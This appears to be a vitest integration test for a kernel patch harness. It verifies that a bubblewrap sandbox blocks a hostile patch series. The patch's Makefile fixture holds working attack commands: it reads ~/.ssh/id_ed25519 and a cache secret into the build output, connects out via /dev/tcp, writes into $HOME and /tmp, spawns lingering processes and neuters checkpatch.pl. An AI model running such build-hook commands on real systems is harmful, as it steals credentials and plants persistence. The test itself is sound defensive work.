import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCommit, type BuildResult } from '../../../src/build/index.js';
import { setSandboxInfo, settleSandbox } from '../../../src/sandbox/index.js';
import { applySeries } from '../../../src/tree/apply.js';
import { openKernelTree, type KernelTree } from '../../../src/tree/worktree.js';

// A hostile series on a small fake kernel tree, built by the real build stage in the real
// bubblewrap sandbox. Its patch turns the Makefile into an attacker (write into $HOME and /tmp,
// read an SSH key and a file of the kharness cache into the build dir the host reads back, connect
// to a listener of ours, leave processes behind) and makes checkpatch.pl pass everything. The same
// series built with --no-sandbox first shows each attack really works, so the sandboxed run's
// silence is the sandbox's doing, not a broken attack.

const nonce = `kh${process.pid}${Date.now()}`;
const id = { GIT_AUTHOR_NAME: 'Mallory', GIT_AUTHOR_EMAIL: 'mallory@example.com', GIT_COMMITTER_NAME: 'Mallory', GIT_COMMITTER_EMAIL: 'mallory@example.com' };
let root: string;
let home: string;
let repo: string;
let mbox: string;
let base: string;
let server: Server;
let connections = 0;
const SECRET = `-----BEGIN OPENSSH PRIVATE KEY----- ${nonce}`;
const CACHE_SECRET = `cache-secret-${nonce}`;
const savedEnv = { HOME: process.env.HOME, KHARNESS_CACHE: process.env.KHARNESS_CACHE, KHARNESS_NO_SANDBOX: process.env.KHARNESS_NO_SANDBOX };

const g = async (cwd: string, ...args: string[]): Promise<string> => (await execa('git', args, { cwd, env: id })).stdout.trim();

const BENIGN_MAKEFILE = `VERSION = 6
PATCHLEVEL = 12
SUBLEVEL = 0
tinyconfig:
\tmkdir -p $(O) && : > $(O)/.config
olddefconfig:
\t@true
bzImage:
\tmkdir -p $(O)/arch/x86/boot && echo image > $(O)/arch/x86/boot/bzImage && echo map > $(O)/System.map
clean:
\t@true
`;

function hostileMakefile(port: number, tmpTarget: string): string {
  // Each attack is allowed to fail (-): the build itself goes on, as a sly one would.
  return BENIGN_MAKEFILE.replace(
    'bzImage:\n',
    `bzImage:
\t-echo pwned > $(HOME)/kharness-pwned
\t-echo pwned > ${tmpTarget}
\t-cat $(HOME)/.ssh/id_ed25519 > $(O)/stolen-key
\t-cat ${process.env.KHARNESS_CACHE}/cache-secret > $(O)/stolen-cache
\t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected'
\t-setsid sh -c 'sleep 3; echo alive > $(O)/survivor' > /dev/null 2>&1 < /dev/null &
\t-setsid sh -c 'sleep 600 # marker-${nonce}' > /dev/null 2>&1 < /dev/null &
`,
  );
}

const BASE_CHECKPATCH = `#!/usr/bin/perl
print "ERROR:BASE_CHECKPATCH: judged by the base tree's checkpatch\\n";
print "#1: FILE: Makefile:1:\\n\\n";
exit 1;
`;

beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'kh-hostile-'));
  home = path.join(root, 'home');
  await mkdir(path.join(home, '.ssh'), { recursive: true });
  await writeFile(path.join(home, '.ssh', 'id_ed25519'), `${SECRET}\n`, { mode: 0o600 });
  process.env.HOME = home;
  process.env.KHARNESS_CACHE = path.join(root, 'cache');
  delete process.env.KHARNESS_NO_SANDBOX;
  await mkdir(process.env.KHARNESS_CACHE, { recursive: true });
  await writeFile(path.join(process.env.KHARNESS_CACHE, 'cache-secret'), `${CACHE_SECRET}\n`);
  server = createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as { port: number }).port;

  repo = path.join(root, 'linux');
  await mkdir(path.join(repo, 'mm'), { recursive: true });
  await mkdir(path.join(repo, 'scripts', 'kconfig'), { recursive: true });
  await writeFile(path.join(repo, 'Makefile'), BENIGN_MAKEFILE);
  await writeFile(path.join(repo, 'Kconfig'), 'source "mm/Kconfig"\n');
  await writeFile(path.join(repo, 'mm', 'Kconfig'), 'config ZSWAP\n\tbool "zswap"\n');
  // merge_config.sh of the tree (run in the sandbox too): the fragments, in order, are the config.
  await writeFile(path.join(repo, 'scripts', 'kconfig', 'merge_config.sh'), '#!/bin/sh\nwhile [ "${1#-}" != "$1" ]; do [ "$1" = -O ] && { out=$2; shift; }; shift; done\nshift\ncat "$@" > "$out/.config"\n', { mode: 0o755 });
  await writeFile(path.join(repo, 'scripts', 'checkpatch.pl'), BASE_CHECKPATCH, { mode: 0o755 });
  await g(root, 'init', '-q', '-b', 'master', repo);
  await g(repo, 'add', '.');
  await g(repo, 'commit', '-q', '-m', 'fake kernel tree');
  base = await g(repo, 'rev-parse', 'HEAD');

  await writeFile(path.join(repo, 'Makefile'), hostileMakefile(port, path.join(tmpdir(), `kharness-pwned-${nonce}`)));
  await writeFile(path.join(repo, 'scripts', 'checkpatch.pl'), '#!/usr/bin/perl\nexit 0;\n');
  await g(repo, 'commit', '-q', '-am', 'kbuild: speed up the build');
  mbox = path.join(root, 'series.mbox');
  await writeFile(mbox, await g(repo, 'format-patch', '-1', '--stdout'));
  await g(repo, 'reset', '-q', '--hard', base);
});

afterAll(async () => {
  await execa('pkill', ['-f', `marker-${nonce}`], { reject: false });
  server?.close();
  for (const [k, v] of Object.entries(savedEnv)) {
    if (v === undefined) delete process.env[k];
    else process.env[k] = v;
  }
  setSandboxInfo(undefined);
  await rm(path.join(tmpdir(), `kharness-pwned-${nonce}`), { force: true });
  await rm(root, { recursive: true, force: true });
});

async function buildHostile(work: string): Promise<{ tree: KernelTree; result: BuildResult }> {
  const tree = await openKernelTree(repo, path.join(root, work));
  const applied = await applySeries(tree, mbox, { commit: base, source: 'option', reason: 'test' });
  const commit = applied.patches[0]!.commit!;
  const result = await buildCommit({ tree, commit, configName: 'zswap', previousCommit: base, checkpatch: true, reviewBase: base, logDir: path.join(root, work, 'logs'), reuse: false });
  return { tree, result };
}

/** Every file under DIR whose text holds NEEDLE (the build dir, logs: what the host reads back). */
function filesHolding(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: string): void => {
    for (const name of readdirSync(d)) {
      const p = path.join(d, name);
      const st = statSync(p);
      if (st.isDirectory()) walk(p);
      else if (st.size < 1 << 20 && readFileSync(p, 'utf8').includes(needle)) hits.push(p);
    }
  };
  if (existsSync(dir)) walk(dir);
  return hits;
}

function filesNamed(dir: string, name: string): string[] {
  return (readdirSync(dir, { recursive: true }) as string[]).filter((p) => path.basename(p) === name);
}

const survivors = async (): Promise<string> => (await execa('pgrep', ['-af', `marker-${nonce}`], { reject: false })).stdout.trim();

describe('a hostile series', () => {
  it('does all it tries when built unsandboxed (--no-sandbox): the attacks are real', async () => {
    await settleSandbox(true);
    const { result } = await buildHostile('work-unsandboxed');
    expect(existsSync(path.join(home, 'kharness-pwned'))).toBe(true);
    expect(existsSync(path.join(tmpdir(), `kharness-pwned-${nonce}`))).toBe(true);
    expect(filesHolding(path.join(root, 'work-unsandboxed'), SECRET).length).toBeGreaterThan(0);
    expect(filesHolding(path.join(root, 'work-unsandboxed'), CACHE_SECRET).length).toBeGreaterThan(0);
    expect(connections).toBeGreaterThan(0);
    expect(await survivors()).not.toBe('');
    // Even unsandboxed, checkpatch is the base tree's: the patch's "exit 0" does not judge it.
    expect(result.checkpatch?.findings.map((f) => f.type)).toEqual(['BASE_CHECKPATCH']);
    await execa('pkill', ['-f', `marker-${nonce}`], { reject: false });
    await rm(path.join(home, 'kharness-pwned'), { force: true });
    await rm(path.join(tmpdir(), `kharness-pwned-${nonce}`), { force: true });
    connections = 0;
    delete process.env.KHARNESS_NO_SANDBOX;
  });

  it('achieves nothing in the sandbox, and the build says what was blocked', async () => {
    const info = await settleSandbox(false);
    expect(info.mode).toBe('bubblewrap');
    const { result } = await buildHostile('work-sandboxed');
    // The build itself ran: the image exists, so the attacks had their chance.
    expect(result.artifacts && existsSync(result.artifacts.image)).toBe(true);
    expect(existsSync(path.join(home, 'kharness-pwned'))).toBe(false);
    expect(existsSync(path.join(tmpdir(), `kharness-pwned-${nonce}`))).toBe(false);
    expect(filesHolding(path.join(root, 'work-sandboxed'), SECRET)).toEqual([]);
    expect(filesHolding(path.join(root, 'work-sandboxed'), CACHE_SECRET)).toEqual([]);
    expect(connections).toBe(0);
    // Nothing it started outlives it: not now, and not the delayed writer three seconds on.
    expect(await survivors()).toBe('');
    await new Promise((r) => setTimeout(r, 4000));
    expect(filesNamed(path.join(root, 'work-sandboxed'), 'survivor')).toEqual([]);
    expect(await survivors()).toBe('');
    // The patched checkpatch.pl ("exit 0") did not judge the patch: the base's did, and failed it.
    expect(result.checkpatch?.findings.map((f) => f.type)).toEqual(['BASE_CHECKPATCH']);
    expect(result.verdict).toBe('fail');
    const denied = (result.sandboxDenied ?? []).join('\n');
    // bwrap's network namespace has only its own loopback: nothing listens there.
    expect(denied).toMatch(/127.0.0.1.*Connection refused|Network is unreachable/);
    expect(denied).toContain(path.join(home, '.ssh', 'id_ed25519'));
    expect(denied).toContain(path.join(process.env.KHARNESS_CACHE!, 'cache-secret'));
  });
});
